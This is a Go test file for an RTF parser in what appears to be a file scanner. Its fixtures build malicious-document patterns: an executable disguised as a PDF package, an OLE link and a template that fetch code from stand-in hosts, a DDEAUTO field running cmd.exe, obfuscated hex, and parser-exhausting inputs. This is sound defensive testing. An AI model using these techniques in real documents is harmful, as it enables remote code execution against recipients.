package rtf

import (
	"encoding/binary"
	"encoding/hex"
	"flag"
	"strings"
	"testing"

	"foregate/scan/file/internal/sample"
)

var _ = flag.Bool("update", false, "write the golden files")

// broken writes hexadecimal digits as attackers do: upper and lower case, white
// space, control words and groups in between.
func broken(b []byte) string {
	var out strings.Builder
	for i, c := range hex.EncodeToString(b) {
		out.WriteRune(c)
		switch i % 41 {
		case 3:
			out.WriteString("\r\n\t ")
		case 7:
			out.WriteString(`\foo9 `)
		case 11:
			out.WriteString(`{\*\bar baddcafe}`)
		}
	}
	return strings.ToUpper(out.String()[:20]) + out.String()[20:]
}

func moniker(url string) []byte {
	u := sample.UTF16(url + "\x00")
	b := append(make([]byte, 20), "\xE0\xC9\xEA\x79\xF9\xBA\xCE\x11\x8C\x82\x00\xAA\x00\x4B\xA9\x0B"...)
	return append(binary.LittleEndian.AppendUint32(b, uint32(len(u))), u...)
}

func files() map[string][]byte {
	pkg := sample.Object("Package", sample.Native("bill.pdf", `C:\Users\op\invite.exe`, `C:\Temp\invite.exe`, []byte(sample.Marker))[4:])
	link := sample.Object("OLE2Link", sample.Compound([]sample.Stream{{Path: "\x01Ole", Data: moniker("https://remote.example/t.hta")}}))
	equation := sample.Object("Equation.3", sample.Compound([]sample.Stream{{Path: "Equation Native", Data: make([]byte, 80)}}))
	eicar := sample.Object("Package", sample.Native("eicar.com", `D:\eicar.com`, `D:\eicar.com`, sample.EICAR())[4:])
	return map[string][]byte{
		"package":  []byte(`{\rtf1\ansi{\fonttbl{\f0 Arial;}}Dear \u233?l\'e8ve\par{\object\objemb{\*\objclass Package}{\*\objdata ` + hex.EncodeToString(pkg) + `}{\result{\pict\pngblip ` + hex.EncodeToString([]byte("\x89PNG\r\n\x1a\n picture data")) + `}}}}`),
		"broken":   []byte(`{\rt{\object\objautlink\objupdate{\*\objdata ` + broken(pkg) + `}}}`),
		"link":     []byte(`{\rtf1{\*\template http://tpl.example/a.dotm}{\object\objupdate{\*\objclass Word.Document.8}{\*\objdata ` + hex.EncodeToString(link) + `}}}`),
		"equation": []byte(`{\rtf1{\object{\*\objdata ` + hex.EncodeToString(equation) + `}}}`),
		"fields":   []byte(`{\rtf1{\field{\*\fldinst{ DDEAUTO cmd.exe "/c calc"}}{\fldrslt{ok}}}{\field{\*\fldinst HYPERLINK "https://go.example/?a=1"}{\fldrslt here}}}`),
		"eicar":    []byte(`{\rtf1{\object{\*\objdata\bin` + itoa(len(eicar)) + ` ` + string(eicar) + `}}}`),
	}
}

func itoa(n int) string {
	return strings.TrimLeft(string([]byte{byte('0' + n/100), byte('0' + n/10%10), byte('0' + n%10)}), "0")
}

func TestGolden(t *testing.T) {
	for name, data := range files() {
		t.Run(name, func(t *testing.T) {
			sample.Golden(t, Parser{}, name, sample.Input(name+".rtf", data))
		})
	}
}

func TestTorture(t *testing.T) {
	for name, data := range files() {
		sample.Torture(t, Parser{}, name+".rtf", data)
	}
}

func TestHostile(t *testing.T) {
	for _, s := range map[string]string{
		"groups":  strings.Repeat("{", 1<<20),
		"objects": strings.Repeat(`{\object{\*\objdata 01050000020000000`, 1<<13),
		"binary":  strings.Repeat(`\bin2000000000 `, 1<<15),
	} {
		res, _ := Parser{}.Open(t.Context(), sample.Input("h.rtf", []byte(`{\rtf1`+s)))
		sample.Check(t, res)
	}
}

func FuzzOpen(f *testing.F) {
	for _, data := range files() {
		f.Add(data)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		in := sample.Input("f.rtf", data)
		if !(Parser{}).Opens(in) {
			return
		}
		res, _ := Parser{}.Open(t.Context(), in)
		sample.Check(t, res)
	})
}
